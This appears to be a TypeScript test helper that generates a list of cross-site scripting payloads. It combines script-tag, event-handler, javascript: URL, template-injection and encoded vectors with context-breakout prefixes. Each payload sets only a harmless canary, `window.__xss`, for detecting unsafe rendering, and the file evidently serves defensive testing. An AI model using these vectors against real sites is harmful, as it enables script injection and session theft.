const code = 'top.__xss=1'

const ways = [
  `<script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<details open ontoggle=${code}>x`,
  `<input autofocus onfocus=${code}>`,
  `<video src=x onerror=${code}></video>`,
  `<a href="javascript:${code}">x</a>`,
  `<object data="javascript:${code}"></object>`,
  `<body onload=${code}>`,
  `<style onload=${code}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<b onmouseover=${code} style="position:fixed;inset:0">x</b>`,
]
/** Out of an attribute, an element or a script that a careless page would have put the text into. */
const exits = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '</script>', '-->', '`']

const others = [
  `javascript:${code}`,
  `java\tscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `" onmouseover="${code}`,
  `' autofocus onfocus='${code}`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `&lt;img src=x onerror=${code}&gt;`,
  `\\u003cimg src=x onerror=${code}\\u003e`,
  `%3Cimg%20src=x%20onerror=${code}%3E`,
]

/** Texts that set `window.__xss` when a page takes them for more than text. */
export const xssPayloads: readonly string[] = [
  ...others,
  ...exits.flatMap((exit) => ways.map((way) => `${exit}${way}`)),
]
